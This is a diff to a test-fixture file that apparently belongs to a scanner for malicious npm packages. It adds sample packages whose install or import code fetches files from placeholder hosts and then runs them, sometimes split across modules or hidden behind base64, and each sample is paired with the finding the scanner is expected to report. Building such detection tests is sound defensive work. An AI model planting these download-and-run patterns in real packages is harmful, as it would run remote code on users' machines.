@@ -33,6 +33,32 @@ export const samples: Samples = {
       expected: [at('download-and-run', 'high', 'index.js', 5)],
     },
     {
+      name: 'a hidden file that one file fetches and another starts, by what a promise comes to',
+      files: installed(
+        "const { keep } = require('./keep');\nconst at = require('./at');\nconst start = (file) => {\n  require('child_process').spawn(file, [], { detached: true, stdio: 'ignore' }).unref();\n};\nkeep(at.url, at.file).then(start, () => {});\n",
+        {
+          'at.js':
+            "const { tmpdir } = require('os');\nmodule.exports = { url: 'https://dl.weir.test/a', file: require('path').join(tmpdir(), '.own-a') };\n",
+          'keep.js':
+            "const fs = require('fs');\nexports.keep = async (url, file) => {\n  const answer = await fetch(url);\n  fs.writeFileSync(file, Buffer.from(await answer.arrayBuffer()), { mode: 0o755 });\n  return file;\n};\n",
+        },
+      ),
+      expected: [at('download-and-run', 'critical', 'setup.js', 4)],
+    },
+    {
+      name: 'a file that is fetched, stored elsewhere and loaded by what is handed on as `require`',
+      files: imported(
+        "const { fetched } = require('./pack');\nexports.get = async (code) => (await fetched('https://dl.weir.test/' + code)).load(require);\n",
+        {
+          'pack.js':
+            "const { keep } = require('./keep');\nclass Pack {\n  constructor(data) { this.rule = data.rule; }\n  load(load) { return load(keep('own', this.rule)); }\n}\nexports.fetched = async (url) => new Pack(await (await fetch(url)).json());\n",
+          'keep.js':
+            "const fs = require('fs'), os = require('os'), path = require('path');\nexports.keep = (name, text) => {\n  const file = path.join(os.tmpdir(), 'own-1', name + '.js');\n  fs.writeFileSync(file, text);\n  return file;\n};\n",
+        },
+      ),
+      expected: [at('download-and-run', 'high', 'pack.js', 4)],
+    },
+    {
       name: 'a function that runs what stands behind a picture',
       files: imported(
         "const fs = require('fs'), vm = require('vm'), path = require('path');\nexports.draw = () => {\n  const bytes = fs.readFileSync(path.join(__dirname, 'a.png'));\n  vm.runInThisContext(bytes.subarray(100).toString());\n};\n",
@@ -122,7 +148,7 @@ export const samples: Samples = {
       files: installed(
         `${HEAD}const url = Buffer.from('${hide('http://192.0.2.9/x')}', 'base64').toString();\nfetch(url).then((r) => r.arrayBuffer()).then((b) => {\n  fs.writeFileSync('/tmp/.d', Buffer.from(b), { mode: 0o755 });\n  cp.spawn('/tmp/.d', [], { detached: true });\n});\n`,
       ),
-      expected: [at('download-and-run', 'critical', 'setup.js', 4)],
+      expected: [at('download-and-run', 'critical', 'setup.js', 5)],
     },
     {
       name: 'another runtime, in a package that is named after a third',
@@ -265,6 +291,16 @@ export const samples: Samples = {
       'a binary for this platform, into its own folder',
       installed(
         `${HEAD}const file = path.join(__dirname, 'bin', 'tool');\nhttps.get('https://dl.weir.test/tool', (res) => {\n  res.pipe(fs.createWriteStream(file)).on('finish', () => { fs.chmodSync(file, 0o755); cp.execFileSync(file, ['--version']); });\n});\n`,
+      ),
+    ),
+    quiet(
+      'a binary that one file fetches into its own folder and another tries',
+      installed(
+        "const path = require('path');\nconst { keep } = require('./keep');\nkeep('https://dl.weir.test/tool', path.join(__dirname, 'bin', 'tool')).then((file) => require('child_process').execFileSync(file, ['--version']));\n",
+        {
+          'keep.js':
+            "const fs = require('fs');\nexports.keep = async (url, file) => {\n  fs.writeFileSync(file, Buffer.from(await (await fetch(url)).arrayBuffer()), { mode: 0o755 });\n  return file;\n};\n",
+        },
       ),
     ),
     quiet(
